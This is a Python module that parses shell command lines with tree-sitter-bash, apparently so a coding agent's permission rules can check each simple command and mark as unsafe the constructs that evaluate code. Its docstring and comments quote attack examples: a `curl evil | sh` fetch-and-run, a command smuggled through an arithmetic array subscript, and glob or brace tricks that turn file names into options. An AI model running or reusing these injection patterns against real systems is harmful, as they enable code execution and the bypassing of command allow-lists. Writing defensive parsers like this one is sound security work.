"""Split a shell command line into the simple commands it would run, with tree-sitter-bash.

Why parse instead of matching the raw text: `git status && curl evil | sh` starts with `git status`, so a prefix
rule on the whole line would allow the `curl`. Every simple command (in lists, pipelines, subshells, `$(...)`,
backticks, process substitutions, function bodies, loops) must be allowed on its own. A line that does not parse
is one opaque part that only an exact rule (or the mode) can allow.

Not every part is a command. Bash runs code in places that look like data: it evaluates array subscripts and
arithmetic (`$((x))`, `${a[x]}`, `${x:off}`, `(( ))`, `[[ x -eq y ]]`) recursively through variable values, so
`x='a[$(touch pwned)]'; echo $((x))` runs `touch`; `${!x}` and `${x@P}` expand a value a second time. So the parse also
returns, as parts the read-only list never allows, the statements that change the shell or evaluate code without
being a simple command: bare assignments, function definitions, `(( ))`, `for (( ))`, `select`, and any such
expansion outside a command (a `case` word, a `for` list); inside a command the construct marks that command
(`unsafe`), so an allow rule for the command still covers it but the read-only list does not."""

from __future__ import annotations

import re
from dataclasses import dataclass, field

from coder.codeintel.languages import parser as make_parser

_WS = re.compile(r"\s+")
#: unquoted characters that let the shell turn one word into several or into other text (globs, braces, `~`,
#: extglobs): `sort *` runs `sort -o x` when a file is named `-o`, `rg --{pre,x}=sh` becomes `--pre=sh`
_EXPANDS = re.compile(r"(?<!\\)[*?\[{(]|^~")
_DQ_ESCAPE = re.compile(r"\\([$`\"\\\n])")
#: inside double quotes, `"$@"`, `"${a[@]}"` and `"${!p@}"` still become several words
_MANY_WORDS = re.compile(r"\$\{?@|\[@\]|\$\{!")
#: `$(( 1 + 2 ))`: arithmetic on literals only, which reads no variable (and so evaluates no subscript)
_LITERAL_ARITH = re.compile(r"^\$\(\([0-9+\-*/%() \t]*\)\)$")

#: word kinds (SimpleCommand.kinds): the value is known / one word known only at run time / any number of words
STATIC, QUOTED, SPLIT = "static", "quoted", "split"
#: a static word the shell still expands by file names or braces (`*.py`, `{a,b}`): any number of words too
GLOB = "glob"

_REDIRECTS = ("file_redirect", "heredoc_redirect", "herestring_redirect")
_SUBSTITUTIONS = ("command_substitution", "process_substitution")
_TEST_EXPRESSIONS = ("binary_expression", "unary_expression", "parenthesized_expression", "ternary_expression",
                     "postfix_expression")
#: what may appear inside `${...}` and evaluates nothing; anything else (`!` indirection, `:` offsets, `=`/`:=`
#: assignment, `@P` prompt expansion, node types this list does not know) makes the expansion unsafe
_EXPANSION_TOKENS = frozenset({"${", "}", "#", "##", "%", "%%", "/", "//", "/#", "/%", "^", "^^", ",", ",,", ":-",
                               "-", ":+", "+", ":?", "?", "@", "Q", "E", "A", "a", "U", "u", "L", "K", "k"})
_EXPANSION_NODES = frozenset({"variable_name", "special_variable_name", "word", "string", "raw_string",
                              "concatenation", "simple_expansion", "expansion", "command_substitution", "regex",
                              "subscript", "arithmetic_expansion", "process_substitution", "ansi_c_string",
                              "translated_string", "extglob_pattern", "string_content"})


@dataclass
class SimpleCommand:
    """One command as the shell would run it."""

    words: list[str]  # command name first; quotes removed where the word is static
    text: str  # normalised source text including assignments and redirections (what rules match)
    #: the name or an argument is computed at run time ($VAR, $(...)), so its meaning is unknown statically
    dynamic: bool = False
    #: the command name itself is computed (`$CMD args`, `` `which x` ``): nothing is known about it
    dynamic_name: bool = False
    #: output redirections to real files (not /dev/null, not fd duplications)
    writes_files: list[str] = field(default_factory=list)
    assignments: list[str] = field(default_factory=list)
    #: per word: STATIC, QUOTED, GLOB or SPLIT (see above); empty for parts built without words
    kinds: list[str] = field(default_factory=list)
    #: why the shell itself evaluates or changes something here (see the module docstring): never read-only
    unsafe: list[str] = field(default_factory=list)
    #: its output goes into a pipe (`pytest | tail`): the line's exit status is not its own (issue 49)
    piped: bool = False

    @property
    def name(self) -> str:
        return self.words[0] if self.words else ""


@dataclass
class ParsedCommand:
    parts: list[SimpleCommand]
    ok: bool  # False: the line did not parse; `parts` then holds the whole line as one opaque part


def _text(node) -> str:
    return node.text.decode("utf-8", errors="replace")


def _word(node) -> tuple[str, str]:
    """The static value of an argument node and its kind (STATIC, QUOTED, GLOB, SPLIT)."""
    text = _text(node)
    kind = node.type
    if kind == "raw_string":
        return text[1:-1], STATIC
    if kind == "string":
        if all(c.type in ('"', "string_content") for c in node.children):
            return _DQ_ESCAPE.sub(r"\1", text[1:-1]), STATIC
        return text, SPLIT if _MANY_WORDS.search(text) else QUOTED
    if kind in ("word", "extglob_pattern"):  # the right side of `[ x != y ]` parses as a pattern
        return re.sub(r"\\(.)", r"\1", text), GLOB if _EXPANDS.search(text) else STATIC
    if kind == "number":
        return text, STATIC
    if kind == "concatenation":
        values = [_word(c) for c in node.children]
        kinds = {k for _, k in values}
        joined = "".join(v for v, _ in values)
        if SPLIT in kinds or (GLOB in kinds and QUOTED in kinds):
            return joined, SPLIT
        return joined, QUOTED if QUOTED in kinds else GLOB if GLOB in kinds else STATIC
    if kind in ("ansi_c_string", "translated_string"):
        return text, QUOTED
    return text, SPLIT  # unquoted expansions and substitutions, brace expressions


def _risk(node) -> str | None:
    """Why this node alone makes bash evaluate code or change its state, or None."""
    kind = node.type
    if kind == "arithmetic_expansion":
        return None if _LITERAL_ARITH.match(_text(node)) else "arithmetic expansion evaluates variables and " \
            "array subscripts (a subscript runs command substitutions)"
    if kind == "compound_statement" and node.children and node.children[0].type == "((":
        return "an arithmetic command evaluates array subscripts, which run command substitutions"
    if kind == "c_style_for_statement":
        return "an arithmetic for loop evaluates array subscripts, which run command substitutions"
    if kind == "subscript":
        text = _text(node)
        index = text[text.find("[") + 1:text.rfind("]")].strip()
        return None if index in ("@", "*") else "an array subscript is evaluated as arithmetic"
    if kind == "expansion":
        for child in node.children:
            ok = child.type in _EXPANSION_NODES if child.is_named else child.type in _EXPANSION_TOKENS
            if not ok:
                return f"`{_text(node)}` evaluates or assigns (indirection, offsets, @P, :=)"
    return None


def _part(node, reason: str, words: list[str] | None = None) -> SimpleCommand:
    """A part that is not a simple command (a bare assignment, a function definition, `(( ))`)."""
    text = _WS.sub(" ", _text(node)).strip()
    return SimpleCommand(words or [], text, True, False, unsafe=[reason])


def _collect(node, out: list[SimpleCommand], owner: SimpleCommand | None) -> None:
    """Append the parts under `node`; `owner` is the command whose words `node` belongs to (None outside one)."""
    kind = node.type
    risk = _risk(node)
    if risk and owner is not None:
        owner.unsafe.append(risk)
    elif risk:
        owner = _part(node, risk)
        out.append(owner)
    if kind in _SUBSTITUTIONS:
        owner = None  # the commands inside are parts of their own
    elif kind == "command":
        owner = _simple(node, [])
        out.append(owner)
    elif kind == "redirected_statement":
        body = node.child_by_field_name("body")
        redirects = [c for c in node.children if c.type in _REDIRECTS]
        if body is not None and body.type == "command":
            owner = _simple(body, redirects)
            out.append(owner)
            for child in [*body.children, *redirects]:
                _collect(child, out, owner)
            return
        writes = _redirect_targets(redirects)
        if writes:  # `{ ...; } > file`: the write is its own part
            out.append(SimpleCommand([">"], "> " + " ".join(writes), writes_files=writes))
    elif kind in ("declaration_command", "unset_command"):
        words = [_text(c) for c in node.children]
        dynamic = any(c.type in ("command_substitution", "expansion", "simple_expansion") for c in node.children)
        owner = SimpleCommand(words, _WS.sub(" ", _text(node)).strip(), dynamic)
        out.append(owner)
    elif kind == "test_command":
        owner = _test(node)
        out.append(owner)
    elif kind in ("variable_assignment", "variable_assignments") and owner is None:
        owner = _part(node, "assigns a shell variable, which changes what later commands do")
        out.append(owner)
    elif kind == "function_definition":
        owner = _part(node, "defines a function, which changes what later commands run")
        out.append(owner)
    elif kind == "for_statement":
        owner = _loop(node)
        out.append(owner)
    elif kind == "pipeline":
        named = [c for c in node.children if c.is_named]
        for child in node.children:
            start = len(out)
            _collect(child, out, owner)
            if child.is_named and child is not named[-1]:
                for part in out[start:]:
                    part.piped = True
        return
    for child in node.children:
        _collect(child, out, owner)


def _test(node) -> SimpleCommand:
    """`[ ... ]` or `[[ ... ]]` as the words the test sees (operators included), for the read-only check."""
    words, kinds = [node.children[0].type], [STATIC]

    def flatten(n) -> None:
        for c in n.children:
            if c.type in ("[", "]", "[[", "]]"):
                continue
            if c.type in _TEST_EXPRESSIONS:
                flatten(c)
                continue
            value, kind = _word(c) if c.is_named and c.type != "test_operator" else (_text(c), STATIC)
            words.append(value)
            kinds.append(kind)

    flatten(node)
    # dynamic, so an "always allow" offered for it is the exact text, never `[[*`
    return SimpleCommand(words, _WS.sub(" ", _text(node)).strip(), True, kinds=kinds)


def _loop(node) -> SimpleCommand:
    """`for NAME in WORDS` (assigns NAME) or `select` (reads the terminal): the header as its own part."""
    keyword = node.children[0].type
    var = node.child_by_field_name("variable")
    words = [keyword, _text(var) if var is not None else ""]
    header = [c for c in node.children if c.type != "do_group"]
    text = _WS.sub(" ", " ".join(_text(c) for c in header)).strip().rstrip(";").strip()
    part = SimpleCommand(words, text, True, kinds=[STATIC, STATIC])  # dynamic: suggest the exact text
    if keyword != "for":
        part.unsafe.append(f"`{keyword}` reads the terminal and assigns a variable")
    return part


def _file_redirects(redirects) -> list:
    """The file redirections among `redirects`, those a here-document carries included (`cat <<EOF > x` parses as
    one heredoc_redirect holding the `> x`)."""
    out = []
    for r in redirects:
        if r.type == "file_redirect":
            out.append(r)
        elif r.type in ("heredoc_redirect", "herestring_redirect"):
            out.extend(c for c in r.children if c.type == "file_redirect")
    return out


def _redirect_targets(redirects) -> list[str]:
    writes: list[str] = []
    for r in _file_redirects(redirects):
        ops = [c.type for c in r.children]
        dest = r.child_by_field_name("destination")
        target = _text(dest) if dest is not None else ""
        to_file = any(op in (">", ">>", "&>", "&>>", ">|") for op in ops)
        if to_file and target not in ("/dev/null", "/dev/stderr", "/dev/stdout") or \
                ">&" in ops and not target.isdigit() and target != "-":
            writes.append(target)
    return writes


def _simple(node, redirects) -> SimpleCommand:
    words: list[str] = []
    kinds: list[str] = []
    shown: list[str] = []  # the words as rules see them: static words re-quoted, computed ones verbatim
    assignments: list[str] = []
    dynamic_name = False
    for child in node.children:
        if child.type == "variable_assignment":
            assignments.append(_text(child))
            continue
        if child.type in _REDIRECTS:
            redirects = (redirects or []) + [child]
            continue
        if child.type == "command_name" or child.is_named:
            inner = child.children[0] if child.type == "command_name" and child.children else child
            value, kind = _word(inner)
            dyn = kind in (QUOTED, SPLIT)
            words.append(value)
            kinds.append(kind)
            shown.append(_text(inner) if dyn or kind == GLOB else _shell_word(value))
            dynamic_name = dynamic_name or (dyn and child.type == "command_name")
    text = _WS.sub(" ", " ".join(assignments + shown)).strip()
    writes = _redirect_targets(redirects or [])
    for r in _file_redirects(redirects or []):
        text += " " + _WS.sub(" ", _text(r)).strip()
    part = SimpleCommand(words, text, any(k in (QUOTED, SPLIT) for k in kinds), dynamic_name, writes, assignments,
                         kinds)
    if redirects and any(re.fullmatch(r"\{.+\}", w) for w in words[1:]):
        # `cmd {name}>file` stores the descriptor in `name`, evaluating a subscript in it
        part.unsafe.append("a `{name}>` redirection assigns a variable")
    return part


def _shell_word(word: str) -> str:
    return word if word and not re.search(r"[\s'\"\\$`]", word) else "'" + word.replace("'", "'\\''") + "'"


def split_command(command: str) -> ParsedCommand:
    """The simple commands of `command`. Raises nothing: a parse failure gives one opaque part."""
    opaque = ParsedCommand([SimpleCommand([command.strip()], _WS.sub(" ", command).strip(), True, True)], False)
    parser = make_parser("bash")
    if parser is None:
        return opaque
    tree = parser.parse(command.encode("utf-8", errors="replace"))
    if tree.root_node.has_error:
        return opaque
    parts: list[SimpleCommand] = []
    _collect(tree.root_node, parts, None)
    return ParsedCommand(parts, True)
